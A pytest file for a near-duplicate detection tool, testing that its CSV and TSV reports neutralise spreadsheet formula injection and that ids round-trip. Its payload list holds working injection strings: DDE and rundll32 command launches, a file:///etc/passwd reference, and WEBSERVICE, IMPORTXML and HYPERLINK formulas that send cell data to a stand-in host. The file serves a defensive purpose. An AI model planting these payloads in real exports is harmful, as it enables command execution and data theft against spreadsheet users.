"""Formulas in what is written as CSV and TSV: no spreadsheet finds one, and ids come back."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Callable, Iterable, Iterator
from itertools import product
from pathlib import Path

import pytest

import neardup_solr as nd
from neardup_solr.records import Match
from neardup_solr.reports.rows import duplicate_rows, match_rows, pair_rows
from neardup_solr.sources import read_pairs
from neardup_solr.verbs.gate.decision import Decision
from neardup_solr.verbs.gate.decision_rows import format_decisions
from tests.faults.conftest import RecordRow

SIGNS = "=+-@"
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1;"see here")',
    '=IMPORTXML(CONCAT("http://x.test/?";A1);"//a")', '=WEBSERVICE("http://x.test/"&A1)',
    "='file:///etc/passwd'#$passwd.A1", '=DDE("cmd";"/C calc";"1")', "=rundll32|'URL.dll'!A",
)  # fmt: skip
# What a program may drop before a sign, or takes for the end of a cell before it.
BEFORE = (
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\u200b", "\ufeff", "\x00", "\x01",
    "\xad", "\u202e", "'", '"', '" ', ' "', "''", '""', "`", "\u201c", "\u2018", "\xab", ";", ",",
    "|", "a;", "a,", "a\t", "a|", 'a";"', 'a","', "a\n", "a\r", 'a"\n"', "a, ", "a;'", '";',
    'a"\t"', "\\", "\\\t", "a\\;", "\u2800", "\ufe0f",
)  # fmt: skip
FULL_WIDTH = str.maketrans("=+-@", "\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [f"{before}{formula}" for before, formula in product(BEFORE, FORMULAS)]
PAYLOADS += [payload.translate(FULL_WIDTH) for payload in PAYLOADS]


def cells(text: str) -> Iterator[str]:
    """The cells of a file as any spreadsheet may see them: by each separator, quotes or none."""
    for delimiter in ",;\t|":
        for quotes in ('"', None):
            lines = io.StringIO(text, newline="")
            for row in csv.reader(lines, delimiter=delimiter, quotechar=quotes):
                yield from row


def is_formula(cell: str) -> bool:
    """Whether a cell begins with a sign, after what nobody sees, quotes and blanks."""
    folded = unicodedata.normalize("NFKC", cell)
    shown = (one for one in folded if not is_passed_over(one))
    return next(shown, "").startswith(tuple(SIGNS))


def is_passed_over(character: str) -> bool:
    """Whether a spreadsheet may drop a character before it looks for a formula.

    An apostrophe is kept by all of them: it says that a text follows.
    """
    kind = unicodedata.category(character)
    return character in '"`\u2800\ufe0f' or kind[0] in "ZC" or kind in ("Pi", "Pf")


def pairs_of(texts: Iterable[str]) -> list[nd.Duplicate]:
    """A pair for each text, with that as its first id."""
    return [
        nd.Duplicate(id=text, other_id=f"other {at}", similarity=0.9, distance=1,
                     measure="words", cluster=text)
        for at, text in enumerate(texts)
    ]  # fmt: skip


def plain(pair: nd.Duplicate) -> nd.Pair:
    """A pair as `report` finds it, without cluster and measure."""
    return nd.Pair(id=pair.id, other_id=pair.other_id, distance=1, similarity=pair.similarity)


def decisions_of(texts: Iterable[str]) -> list[Decision]:
    """A decision of the gate for each text, which is everything in it that may be a text."""
    return [
        Decision(
            document=nd.Document(id=text, text=text), action="hold", reason=text, matches=(match,)
        )
        for text, match in zip(texts, matches_of(texts), strict=True)
    ]


def matches_of(texts: Iterable[str]) -> list[Match]:
    """A near-duplicate for each text, with that as its id and its text."""
    return [Match(id=text, distance=1, similarity=0.9, shared=3, content=text) for text in texts]


FACES: dict[str, Callable[[list[str], str], Iterator[str]]] = {
    "pairs": lambda texts, format: pair_rows(map(plain, pairs_of(texts))).lines(format),
    "duplicates": lambda texts, format: duplicate_rows(pairs_of(texts)).lines(format),
    "matches": lambda texts, format: match_rows(matches_of(texts)).lines(format),
    "decisions": lambda texts, format: format_decisions(decisions_of(texts), format),
}


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_no_spreadsheet_finds_a_formula(format: str, row: RecordRow) -> None:
    """Whatever stands before a formula, and wherever a program begins a cell."""
    for name, face in FACES.items():
        found = [cell for cell in cells("".join(face(PAYLOADS, format))) if is_formula(cell)]
        assert found == [], name
    row("S4", f"{format}: 0 of {len(PAYLOADS):,} formulas run, in {len(FACES)} kinds of tables")


def test_the_spreadsheet_of_these_tests_sees_formulas() -> None:
    """Most of them are seen in a file that nobody made neutral; a mark hides the rest."""
    unseen = []
    for payload in PAYLOADS:
        line = io.StringIO()
        csv.writer(line).writerow([payload, "other"])
        if not any(map(is_formula, cells(line.getvalue()))):
            unseen.append(payload)
    assert all("'" in payload or "\\" in payload for payload in unseen)
    assert len(unseen) < len(PAYLOADS) / 5


@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_ids_come_back(suffix: str, tmp_path: Path) -> None:
    """What our own readers read of such a file are the ids that were written."""
    path = tmp_path / f"pairs.{suffix}"
    pairs = pairs_of(PAYLOADS)
    duplicate_rows(pairs).write(path)
    assert read_pairs(path) == [(pair.id, pair.other_id) for pair in pairs]
    known = [(pair.id, pair.other_id) for pair in pairs]
    assert nd.evaluate(known, path).f1 == 1.0
    nd.evaluate(known, []).write(path)
    assert {frozenset(pair) for pair in read_pairs(path)} == set(map(frozenset, known))
